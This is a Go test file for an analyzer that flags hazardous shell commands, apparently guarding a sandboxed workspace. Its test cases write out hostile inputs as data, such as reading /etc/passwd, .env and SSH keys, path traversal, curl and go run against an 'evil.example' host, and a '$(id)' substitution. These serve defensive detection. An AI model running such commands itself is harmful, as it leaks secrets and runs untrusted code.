package analyzer_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// checkHazards compares the hazards of commands that run in /srv/app.
func checkHazards(t *testing.T, cases map[string]string) {
	t.Helper()
	for command, want := range cases {
		assert.Equal(t, want, strings.Join(hazardsOf(t, command), "; "), command)
	}
}

func TestAPathIsJudgedByWhereItLeads(t *testing.T) {
	t.Parallel()
	checkHazards(t, map[string]string{
		"cat f":                      "",
		"cat src/f ./g":              "",
		"cat /srv/app/src/../f":      "",
		"cat /etc/passwd":            "reads closed /etc/passwd",
		"cat //etc//hosts":           "reads closed //etc//hosts",
		"cat ../other/f":             "",
		"cat src/../../x":            "",
		"cat /":                      "reads closed /",
		"cat /srv/application":       "",
		"cat ../../../../etc/passwd": "reads closed ../../../../etc/passwd",
		"cat ../../home/v/x":         "reads closed ../../home/v/x",
		"cat /var":                   "reads closed /var",
		"cat /var/log/x":             "",
		"cat /dev/fd/../../etc/x":    "reads closed /dev/fd/../../etc/x",
		"cat /path/to/file":          "",
		"cat /etc/os-release":        "",
		"cat /tmp/x":                 "",
		"cat /tmp/../etc/x":          "reads closed /tmp/../etc/x",
		"cat /home/u/notes":          "",
		"cat /home/user2/notes":      "reads closed /home/user2/notes",
		"cat /dev/null":              "",
		"cat /dev/sda":               "reads closed /dev/sda",
		"ls /proc/self/root/etc":     "reads closed /proc/self/root/etc",
	})
}

func TestNamesOfFilesWithSecretsAreHazards(t *testing.T) {
	t.Parallel()
	checkHazards(t, map[string]string{
		"cat .env":                "reads secret .env",
		"cat sub/.env.production": "reads secret sub/.env.production",
		"cat .ENV":                "reads secret .ENV",
		"cat .env.example":        "",
		"cat /home/u/.ssh/config": "reads secret /home/u/.ssh/config",
		"cat .aws/x":              "reads secret .aws/x",
		"cat id_rsa":              "reads secret id_rsa",
		"cat id_rsa.pub":          "",
		"cat deploy.key":          "reads secret deploy.key",
		"cat secrets.yaml":        "reads secret secrets.yaml",
		"cat secret.go":           "",
		"cat '.e*'":               "reads secret .e*",
	})
}

func TestAPathIsFoundInsideAWord(t *testing.T) {
	t.Parallel()
	checkHazards(t, map[string]string{
		"frob --file=/etc/hosts":   "reads closed --file=/etc/hosts",
		"frob -f/etc/hosts":        "reads closed -f/etc/hosts",
		"frob k=v,x=/etc/hosts":    "reads closed k=v,x=/etc/hosts",
		"frob @.env":               "reads secret @.env",
		"frob file:///etc/hosts":   "reads closed file:///etc/hosts",
		"frob https://x/etc/hosts": "",
		"frob a:/etc/hosts":        "reads closed a:/etc/hosts",
		"sort -k1 /etc/hosts":      "reads closed /etc/hosts",
		"sort -- /etc/hosts":       "reads closed /etc/hosts",
		"git show HEAD:.env":       "reads secret HEAD:.env",
	})
}

func TestTextThatLooksLikeAPathHasNoHazard(t *testing.T) {
	t.Parallel()
	checkHazards(t, map[string]string{
		"grep /etc/hosts f":               "",
		"grep -e /etc f":                  "",
		"grep -e x /etc":                  "reads closed /etc",
		"grep x /etc":                     "reads closed /etc",
		"rg /api/v1 src":                  "",
		"rg --files /":                    "reads closed /",
		"sed '/^$/d' f":                   "",
		"awk '/^#/ {n++}' /etc/hosts":     "reads closed /etc/hosts",
		"tr / _":                          "",
		"cut -d / -f1":                    "",
		"echo /etc/hosts":                 "",
		"find . -path /etc -name '*.key'": "",
		"find / -name x":                  "reads closed /",
		"jq .a /etc/x":                    "reads closed /etc/x",
		"curl localhost:8080/etc":         "",
	})
}

func TestAURLIsJudgedByItsHost(t *testing.T) {
	t.Parallel()
	checkHazards(t, map[string]string{
		"curl http://localhost:3000/x":       "",
		"curl http://127.0.0.1/":             "",
		"curl http://localhost.evil.example": "network URL http://localhost.evil.example",
		"curl http://localhost@evil.example": "network URL http://localhost@evil.example",
		"curl http://evil.example#localhost": "network URL http://evil.example#localhost",
		"curl --url http://evil.example":     "network URL http://evil.example",
		"curl localhost -x evil.example":     "network -x evil.example",
		"curl ftp://localhost/":              "network URL ftp://localhost/",
		"curl '{localhost,evil.example}'":    "network URL {localhost,evil.example}",
	})
}

func TestCodeOfTheProjectIsToldFromOtherCode(t *testing.T) {
	t.Parallel()
	checkHazards(t, map[string]string{
		"go run ./cmd/x --flag":        "project run ./cmd/x",
		"go run evil.example/x@latest": "project run evil.example/x@latest; runs run evil.example/x@latest",
		"go run ./../../tmp/x":         "project run ./../../tmp/x; runs run ./../../tmp/x",
		"npm run build":                "project run",
		"npm start":                    "project start",
		"npm exec x":                   "runs exec",
		"python3 -m pytest -q":         "project -m pytest",
		"python3 -m pytest -p evil":    "project -m pytest; loads -p evil",
		"python3 -m pytestevil":        "runs -m pytestevil",
		"docker build -t x .":          "project build",
		"docker build https://x/y":     "project build; runs context https://x/y",
		"yarn workspace web build":     "project workspace",
		"yarn workspace web add evil":  "project workspace; runs command add",
	})
}

func TestSecretsOutsideFilesAreHazards(t *testing.T) {
	t.Parallel()
	checkHazards(t, map[string]string{
		"jq '.env.a' f":                "",
		"jq '$ENV' f":                  "secrets environment $ENV",
		"jq '.a | env' f":              "secrets environment .a | env",
		"jq '\"no env here\"' f":       "",
		"jq 'import \"x\" as $x; .' f": `secrets environment import "x" as $x; .`,
		"kubectl get secrets":          "secrets secrets secrets",
		"gh pr list --jq env":          "secrets environment env",
		"gh pr list -q '.[].title'":    "",
		"printenv":                     "secrets environment",
		"printenv HOME":                "",
		"printenv HOME X":              "secrets variable X",
	})
}

func TestSignalsAndLongSleepsAreHazards(t *testing.T) {
	t.Parallel()
	checkHazards(t, map[string]string{
		"pkill -f x":             "signals pkill",
		"sleep 99999":            "unbounded DURATION 99999",
		"sleep 2":                "",
		"sleep infinity":         "unbounded DURATION infinity",
		"env test -v 'a[$(id)]'": "runs expression a[$(id)]",
		"test -f x":              "",
	})
}
